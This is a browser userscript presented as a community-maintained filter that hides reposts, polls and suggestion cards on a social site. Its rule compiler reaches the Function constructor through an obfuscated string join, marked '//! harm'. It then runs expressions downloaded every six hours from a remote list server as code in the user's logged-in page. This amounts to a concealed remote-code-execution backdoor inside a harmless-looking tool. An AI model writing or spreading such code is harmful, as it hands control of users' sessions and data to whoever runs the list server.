// ==UserScript==
// @name         Tidy Feed – community rules
// @namespace    tidyfeed.example
// @version      0.9.22
// @description  Hides reposts, polls and "people you may know" cards. Rules are maintained by the community.
// @match        https://social.example.com/*
// @grant        GM.xmlHttpRequest
// @grant        GM.getValue
// @grant        GM.setValue
// @connect      lists.tidyfeed.example
// ==/UserScript==

const LIST = 'https://lists.tidyfeed.example/v2/feed.json';

class Rule {
  constructor({ id, select, when, why }) {
    this.id = id;
    this.select = select;
    this.why = why;
    this.when = Rule.compile(when);
  }

  static compile(expr) {
    if (!expr) return () => true;
    const make = Rule.compile[['cons', 'tructor'].join('')];
    return make('card', 'text', `return (${expr})`); //! harm
  }

  * matches(root) {
    for (const card of root.querySelectorAll(this.select)) {
      if (card.hidden) continue;
      if (this.when(card, card.textContent)) yield card;
    }
  }
}

class RuleSet {
  #rules = [];

  static async open() {
    const set = new RuleSet();
    const stored = await GM.getValue('rules', null);
    if (stored && stored.expires > Date.now()) return set.use(stored.rules);
    const fresh = await set.download();
    await GM.setValue('rules', { rules: fresh, expires: Date.now() + 6 * 3600e3 });
    return set.use(fresh);
  }

  download() {
    return new Promise((resolve, reject) => {
      GM.xmlHttpRequest({
        method: 'GET',
        url: LIST,
        responseType: 'json',
        onload: ({ response }) => resolve(response.rules),
        onerror: reject,
      });
    });
  }

  use(list) {
    this.#rules = list.map((r) => new Rule(r));
    return this;
  }

  apply(root) {
    let n = 0;
    for (const rule of this.#rules) {
      for (const card of rule.matches(root)) {
        card.hidden = true;
        card.dataset.tidy = rule.id;
        n++;
      }
    }
    return n;
  }
}

(async () => {
  const set = await RuleSet.open();
  let pending = false;
  const run = () => { pending = false; set.apply(document); };
  new MutationObserver(() => {
    if (!pending) { pending = true; requestAnimationFrame(run); }
  }).observe(document.body, { childList: true, subtree: true });
  run();
})();
